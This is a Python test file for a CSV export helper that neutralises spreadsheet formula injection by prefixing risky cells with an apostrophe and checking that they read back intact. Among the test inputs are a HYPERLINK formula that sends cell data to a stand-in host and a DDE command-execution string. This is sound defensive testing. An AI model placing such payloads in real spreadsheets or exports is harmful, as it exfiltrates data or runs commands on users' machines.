"""CSV cells that a spreadsheet would run as a formula are written as text
(`coopsite.foundation.exports`)."""

from decimal import Decimal

import pytest

from coopsite.foundation.exports import safe_cell, unquote_cell


@pytest.mark.parametrize(
    "text, written",
    [
        ('=HYPERLINK("http://x.test/?"&C2;"ok")', '\'=HYPERLINK("http://x.test/?"&C2;"ok")'),
        ("=cmd|' /c calc'!A0", "'=cmd|' /c calc'!A0"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-5", "'-5"),  # typed as text: text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # already looks quoted: one more, so it reads back as it was
        ("''", "'''"),
        ("Alix Aubertin", "Alix Aubertin"),
        ("a=b", "a=b"),
        ("'t Hooft", "'t Hooft"),  # an apostrophe before a letter is left alone
        ("'", "'"),
        ("", ""),
    ],
)
def test_text_that_starts_like_a_formula_is_prefixed_and_reads_back(text, written):
    assert safe_cell(text) == written
    assert unquote_cell(written) == text


@pytest.mark.parametrize("value", [-5, 0, 3, Decimal("-12.50"), -1.5, None, True])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) is value
